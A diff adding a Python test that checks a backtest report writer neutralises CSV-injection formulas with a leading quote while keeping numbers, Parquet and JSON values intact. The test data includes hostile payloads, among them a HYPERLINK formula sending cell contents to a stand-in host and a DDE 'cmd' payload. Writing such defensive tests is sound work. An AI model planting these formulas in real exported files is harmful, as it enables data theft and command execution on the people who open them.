@@ -219,3 +219,21 @@ def test_fixture_ledger_has_the_engine_shapes():
     assert set(real.trades.loc[real.trades["status"] == "open", "exit_reason"]) <= {"end-of-data"}
     # every entered trade's tranches add up to the whole position
     assert fake.exits.groupby(["setup_id", "leg"])["fraction"].sum().eq(1.0).all()
+
+
+def test_csv_neutralises_formula_text_but_keeps_numbers_and_raw_json(tmp_path):
+    """OWASP CSV injection: text cells starting with = + - @ tab CR get a leading quote; numbers do not."""
+    import pyarrow.parquet as pq
+
+    from backtest.reports.writers import frame_to_csv, frame_to_parquet, to_json
+
+    hostile = ['=HYPERLINK("http://x/"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTAB", "\rCR", "plain"]
+    frame = pd.DataFrame({"title": hostile, "return_pct": [-2.5, 1.0, -0.1, 0.0, 3.0, -1.0, 2.0]})
+    rows = list(csv.DictReader(io.StringIO(frame_to_csv(frame), newline="")))
+    assert len(rows) == len(hostile)  # a CR in a cell does not end the row
+    assert [r["title"] for r in rows][:5] == ["'" + h for h in hostile[:5]] and rows[6]["title"] == "plain"
+    assert rows[5]["title"] == "'\nCR"
+    assert [r["return_pct"] for r in rows][:3] == ["-2.5", "1", "-0.1"]  # numbers stay numbers
+    frame_to_parquet(frame, tmp_path / "t.parquet")
+    assert pq.read_table(tmp_path / "t.parquet").column("title").to_pylist() == hostile
+    assert json.loads(to_json({"titles": hostile}))["titles"] == hostile
